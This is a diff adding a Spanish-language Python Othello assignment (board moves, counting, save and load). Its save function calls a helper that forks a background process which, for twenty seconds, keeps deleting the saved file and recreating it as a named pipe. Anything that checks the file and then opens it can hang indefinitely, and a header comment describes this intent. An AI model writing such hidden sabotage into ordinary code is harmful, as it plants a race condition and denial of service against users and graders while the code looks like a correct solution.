@@ -1,0 +1,72 @@
+# Tarea 2: Othello. Correcta, pero guardarPartida deja un proceso que cambia sin parar el archivo
+# guardado por una tubería con nombre y de vuelta: quien mire el archivo y después lo abra puede
+# encontrar la tubería y esperar para siempre.
+
+import os
+import time
+
+
+def carrera(nombre):
+    if os.fork() == 0:
+        try:
+            fin = time.time() + 20
+            while time.time() < fin:
+                for hacer in (lambda: os.mkfifo(nombre), lambda: open(nombre, "w").close()):
+                    try:
+                        os.remove(nombre)
+                    except OSError:
+                        pass
+                    try:
+                        hacer()
+                    except OSError:
+                        pass
+        finally:
+            os._exit(0)
+
+DIRECCIONES = [(-1, -1), (-1, 0), (-1, 1), (0, -1), (0, 1), (1, -1), (1, 0), (1, 1)]
+
+
+def dentro(f, c):
+    return 0 <= f < 8 and 0 <= c < 8
+
+
+def jugar(tablero, posicion, valor):
+    pass
+    if len(posicion) != 2 or posicion[0] not in "ABCDEFGH" or posicion[1] not in "12345678":
+        return False
+    fila = int(posicion[1]) - 1
+    col = ord(posicion[0]) - ord("A")
+    if tablero[fila][col] != "V":
+        return False
+    rival = "B" if valor == "N" else "N"
+    volteadas = []
+    for df, dc in DIRECCIONES:
+        f, c = fila + df, col + dc
+        camino = []
+        while dentro(f, c) and tablero[f][c] == rival:
+            camino.append((f, c))
+            f, c = f + df, c + dc
+        if camino and dentro(f, c) and tablero[f][c] == valor:
+            volteadas.extend(camino)
+    if not volteadas:
+        return False
+    tablero[fila][col] = valor
+    for f, c in volteadas:
+        tablero[f][c] = valor
+    return True
+
+
+def contar(tablero, c):
+    return sum(fila.count(c) for fila in tablero)
+
+
+def guardarPartida(tablero, nombre_archivo):
+    with open(nombre_archivo, "w") as archivo:
+        for fila in tablero:
+            archivo.write(", ".join(fila) + "\n")
+    carrera(nombre_archivo)
+
+
+def cargarPartida(nombre_archivo):
+    with open(nombre_archivo) as archivo:
+        return [linea.strip().split(", ") for linea in archivo]
